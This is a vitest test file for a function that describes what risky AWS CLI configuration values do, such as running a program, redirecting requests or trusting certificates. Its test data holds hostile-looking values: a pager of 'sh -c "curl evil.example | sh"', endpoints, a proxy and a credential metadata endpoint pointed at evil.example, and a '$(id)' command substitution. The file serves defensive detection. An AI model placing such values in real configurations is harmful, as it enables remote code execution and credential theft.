import { expect, it } from 'vitest'
import { settingEffect } from '../../src/model/setting-effect.ts'

it.each([
  ['cli_pager', 'less -R', 'runs a program: less -R'],
  ['cli_pager', 'sh -c "curl evil.example | sh"', 'runs a program: sh -c "curl evil.example | sh"'],
  ['cli_pager', 'bash', 'runs a program: bash'],
  ['cli_pager', './less', 'runs a program: ./less'],
  ['cli_pager', '/usr/bin/less', 'runs a program: /usr/bin/less'],
  ['cli_pager', 'less\t-f', 'runs a program: less\t-f'],
  ['mfa_process', 'pass otp aws', 'runs a program: pass otp aws'],
  ['endpoint_url', 'https://evil.example', 'sends requests to https://evil.example'],
  ['endpoint_url', 'https://x.s3.amazonaws.com', 'sends requests to https://x.s3.amazonaws.com'],
  ['s3.endpoint_url', 'http://evil.example', 'sends requests to http://evil.example'],
  ['services', 'theirs', 'sends requests to the addresses in [services theirs]'],
  ['ec2_metadata_service_endpoint', 'http://evil.example', 'takes credentials from http://evil.example'],
  ['csm_host', 'evil.example', 'sends a record of every request to evil.example'],
  ['csm_enabled', 'true', 'sends a record of every request to a listening program'],
  ['cli_follow_urlparam', 'true', 'fetches URLs given as parameter values'],
  ['ca_bundle', '/tmp/theirs.pem', 'trusts certificates from /tmp/theirs.pem'],
  ['s3.ca_bundle', '/tmp/theirs.pem', 'trusts certificates from /tmp/theirs.pem'],
  ['proxy_ca_bundle', 'x.pem', 'trusts certificates from x.pem'],
  ['verify_ssl', 'false', 'does not verify certificates'],
  ['ec2.verify_ssl', '0', 'does not verify certificates'],
  ['cli-pager', 'sh', 'runs a program: sh'],
  ['s3.Endpoint_URL', 'http://evil.example', 'sends requests to http://evil.example'],
  ['data_path', '/tmp/models', 'loads AWS service models from /tmp/models'],
  ['cli_history', 'enabled', 'writes every request and response to ~/.aws/cli/history'],
  ['emr.key_pair_file', '~/.ssh/id', 'reads a file: ~/.ssh/id'],
  ['my_tool_command', 'x', 'runs a program: x'],
  ['https_proxy', 'evil.example:3128', 'sends requests to evil.example:3128'],
  ['my_tool_url', 'evil.example', 'sends requests to evil.example'],
  ['my_tool_file', 'x', 'reads a file: x'],
  ['my_tool', 'http://evil.example', 'sends requests to http://evil.example'],
  ['my_tool', '$(id)', 'may run or read $(id)'],
  ['my_tool', '../x', 'may run or read ../x'],
])('%s = %s %s', (key, value, says) => {
  expect(settingEffect(key, value)).toBe(says)
})

it.each([
  ['cli_pager', ''],
  ['endpoint_url', ''],
  ['cli_pager', 'less'],
  ['cli_pager', 'cat'],
  ['cli_follow_urlparam', 'false'],
  ['cli_history', 'disabled'],
  ['csm_enabled', 'false'],
  ['verify_ssl', 'true'],
  ['ignore_configured_endpoint_urls', 'true'],
  ['ec2_metadata_service_endpoint_mode', 'IPv6'],
  ['endpoint_discovery_enabled', 'true'],
  ['cli_auto_prompt', 'on-partial'],
  ['cli_binary_format', 'raw-in-base64-out'],
  ['sts_regional_endpoints', 'regional'],
  ['max_attempts', '5'],
  ['s3.max_concurrent_requests', '20'],
  ['s3.use_accelerate_endpoint', 'true'],
  ['api_versions.ec2', '2015-03-01'],
  ['my_tool', 'on'],
])('%s = %s is nothing to ask about', (key, value) => {
  expect(settingEffect(key, value)).toBeUndefined()
})
